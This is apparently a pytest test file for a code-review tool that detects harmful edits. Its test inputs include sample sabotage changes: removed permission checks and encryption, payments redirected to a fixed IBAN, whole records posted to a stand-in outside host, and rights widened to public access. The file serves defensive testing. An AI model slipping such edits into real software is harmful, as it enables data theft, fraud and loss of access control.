"""What an edit takes away from the lines it leaves standing, and what those lines do not count."""

from __future__ import annotations

import pytest

from signoff.actions.contents.edits.directions import turned_by_edit
from signoff.actions.contents.taken.bounds import dropped_bound
from signoff.actions.contents.taken.changes import LineDiff, changes_of
from signoff.actions.contents.taken.conditions import shortened_condition
from signoff.actions.contents.taken.cuts import cut_check, cut_encryption, cut_scope
from signoff.actions.contents.taken.new_hosts import sent_to_new_host
from signoff.actions.contents.taken.payees import fixed_payee
from signoff.actions.contents.taken.records import unwritten_audit
from signoff.actions.contents.taken.refusals import gone_refusal
from signoff.actions.contents.taken.rights import widened_right
from signoff.actions.contents.taken.turned import made_public, made_reachable
from signoff.actions.contents.taken.unchanged import new_operations
from signoff.actions.contents.text import NewText
from signoff.actions.operation import FileKind, Operation, ResourceType, Verb


def _changes(old: str, new: str, path: str = "a.py") -> LineDiff:
    changes = changes_of(old, new, path)
    assert changes is not None
    return changes


def test_a_line_that_moved_is_neither_removed_nor_added() -> None:
    """Only what is gone counts as taken away."""
    assert () == _changes("check()\nwork()\nend()", "work()\ncheck()\nend()").each


def test_a_comment_that_goes_takes_nothing_away() -> None:
    """A comment runs nothing."""
    assert () == _changes("# if not ok: raise Refused\nwork()", "work()").each


def test_texts_that_are_too_long_are_not_compared() -> None:
    """The time of comparing has a bound."""
    assert changes_of("a\n" * 30_000, "b\n" * 30_000, "a.py") is None


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("if not ask(n):\n    return 0\nfile.unlink()", "file.unlink()"),
        ("abort 'no' unless plea.approved?\nfire()", "fire()"),
        ("if n > limit {\n  return Err\n}\nsend()", "if n > limit {\n  note(n)\n}\nsend()"),
        ("if (apply) {\n  unlink(f);\n}", "unlink(f);"),
    ],
)
def test_a_refusal_that_goes_is_found(old: str, new: str) -> None:
    """What stood behind the refusal is done always."""
    assert gone_refusal(_changes(old, new)) != ""


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("if x is None:\n    return\nshow(x)", "show(x)"),
        ("if not ok(n): raise Denied\ngo(n)", "ensure_ok(n)\ngo(n)"),
        ("work()", "if not ok(): raise Denied\nwork()"),
    ],
)
def test_a_refusal_that_stays_in_another_form_is_not(old: str, new: str) -> None:
    """A look for nothing, a check by a function and a new check pass."""
    assert gone_refusal(_changes(old, new)) == ""


def test_a_condition_without_one_of_its_reasons_refuses_less() -> None:
    """`or` before a refusal: each part refuses."""
    old = "if a.banned or a.sum > a.limit:\n    raise No"
    assert shortened_condition(_changes(old, "if a.banned:\n    raise No")) != ""


def test_a_refusal_without_an_exception_is_stricter() -> None:
    """`and` before a refusal: fewer parts refuse more."""
    old = "if a.sum > a.limit and not a.trusted:\n    raise No"
    assert shortened_condition(_changes(old, "if a.sum > a.limit:\n    raise No")) == ""


def test_what_is_cut_out_of_a_line_says_what_it_was() -> None:
    """A scope, encryption and a check are told apart from any other argument."""
    scope = _changes("x = get(Boat, pk=pk, club=request.user.club)", "x = get(Boat, pk=pk)")
    plain = _changes("put(key, vault.encrypt(scan))", "put(key, scan)")
    chain = _changes('g = r.Group("/x", load(), csrf.Guard())', 'g = r.Group("/x", load())')
    other = _changes("x = get(Boat, pk=pk, old=False)", "x = get(Boat, pk=pk)")
    found = [cut_scope(scope), cut_encryption(plain), cut_check(chain)]
    assert all(found)
    assert ("", "", "") == (cut_scope(other), cut_encryption(other), cut_check(other))


def test_an_audit_record_that_is_written_another_way_is_not_gone() -> None:
    """Only a record without a successor counts."""
    old = "save(x)\naudit.write(user, x)\nreturn x"
    assert unwritten_audit(_changes(old, "save(x)\nreturn x")) == "audit.write(user, x)"
    assert unwritten_audit(_changes(old, "save(x)\naudit.write(user, x, why)\nreturn x")) == ""


def test_a_query_without_its_condition_hits_all_rows() -> None:
    """The statement behind it decides whether that matters."""
    old, new = "q = from b in Berth, where: b.id == ^id", "q = from b in Berth"
    assert dropped_bound(_changes(f"{old}\nRepo.delete_all(q)", f"{new}\nRepo.delete_all(q)"))
    assert not dropped_bound(_changes(f"{old}\nRepo.all(q)", f"{new}\nRepo.all(q)"))


def test_private_turned_public_is_grave_where_records_lie() -> None:
    """A repository that becomes public is asked about, a disk of deeds is worse."""
    old, new = "'visibility' => 'private',", "'visibility' => 'public',"
    disk = _changes(f"'driver' => 's3',\n{old}", f"'driver' => 's3',\n{new}", "disks.php")
    code = _changes(f"'name' => 'x',\n{old}", f"'name' => 'x',\n{new}", "repos.php")
    assert ("visibility: public", True) == made_public(disk, "disks.php")
    assert ("visibility: public", False) == made_public(code, "repos.php")


def test_a_service_that_leaves_its_machine_is_found() -> None:
    """From the loopback address to all, and not back."""
    near, wide = 'listen = "127.0.0.1:53"', 'listen = "0.0.0.0:53"'
    assert made_reachable(_changes(near, wide), "gate.toml") == wide
    assert made_reachable(_changes(wide, near), "gate.toml") == ""


def test_an_account_of_the_source_in_place_of_somebodys_is_found() -> None:
    """The same call paid its owner before."""
    old, new = "bank.transfer(p.iban, s)", 'bank.transfer("EE382200221020145685", s)'
    assert fixed_payee(_changes(old, new)) == new
    assert fixed_payee(_changes("show(p)", new)) == ""


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('requests.post("https://m.example.org/e", json=boat.to_dict())', "grave"),
        ('r = requests.post("https://m.example.org/e", json=boat.to_dict())', ""),
        ('requests.post("https://hooks.slack.com/services/x", json={"n": n})', ""),
        ('requests.post("https://x.api.mailchimp.com/m", json=boat.to_dict())', "found"),
        ('requests.post("https://m.example.org/e", json={"page": "home"})', ""),
        ('requests.post("http://localhost:80/e", json=boat.to_dict())', ""),
    ],
)
def test_values_for_a_new_host_whose_answer_nobody_takes(line: str, expected: str) -> None:
    """A whole object is grave, and asked about where a known service gets it."""
    found, is_grave = sent_to_new_host(_changes("a(boat)\nb()", f"a(boat)\n{line}\nb()"), "x.py")
    assert expected == ("grave" if is_grave else found and "found")


@pytest.mark.parametrize(
    ("old", "new", "is_wider"),
    [
        ("using (owner = auth.uid())", "using (true)", True),
        ("using (true)", "using (owner = auth.uid())", False),
        ("grant select on x to y", "grant select, delete on x to y", True),
        ("revoke select on x from y", "revoke select, delete on x from y", False),
        ('role = "storage.objectViewer"', 'role = "storage.objectAdmin"', True),
        ('r.get("/x", list)', 'r.get("/x", requireRole("admin"), list)', False),
    ],
)
def test_a_right_that_grows_is_found(old: str, new: str, *, is_wider: bool) -> None:
    """A condition that always holds, a list with writing, a higher role; and not the way back."""
    assert is_wider == (widened_right(_changes(old, new)) != "")


@pytest.mark.parametrize(
    ("old", "new", "is_lowered"),
    [
        ("restic forget --keep-daily 30", "restic forget --keep-daily 3", True),
        ("    rotate 365", "    rotate 5", True),
        ("  rotate: 90", "  rotate: 5", False),
        (
            'a = { "retention.ms" = "9000" }',
            'a = { "retention.ms" = "9000" }\nb = { "retention.ms" = "90" }',
            False,
        ),
    ],
)
def test_what_is_kept_for_a_shorter_time_is_found(old: str, new: str, *, is_lowered: bool) -> None:
    """Less than half of what it was, of the same thing."""
    found = [why for _, why, _ in turned_by_edit(FileKind.OTHER, NewText(old=old, new=new))]
    assert is_lowered == any([why.startswith("lowers") for why in found])


def _deletes(text: str) -> list[Operation]:
    lines = [line for line in text.split("\n") if "rm " in line]
    return [
        Operation(
            verb=Verb.DELETE,
            thing=ResourceType.FILE,
            target=line.strip().removeprefix("rm "),
            program="rm",
            source=line.strip(),
        )
        for line in lines
    ]


@pytest.mark.parametrize(
    ("old", "new", "count"),
    [
        ("a:\n\trm x\nport = 1", "a:\n\trm x\nport = 2", 0),
        ("a:\n\trm x\nport = 1", "a:\n\trm x\n\trm y\nport = 1", 1),
        ("a:\n\trm x\nport = 1", "all:\n\trm x\nport = 1", 1),
        ("D = x\na:\n\trm $D", "D = y\na:\n\trm $D", 1),
        ("if ok\n\trm x\nend", "\trm x", 1),
        ("/*\nrm x\n*/", "rm x", 1),
    ],
)
def test_lines_count_where_the_edit_touches_their_meaning(old: str, new: str, count: int) -> None:
    """Another port changes nothing; another head, value, condition or comment does."""
    text = NewText(old=old, new=new)
    assert count == len(list(new_operations(text, "Makefile", _deletes)))
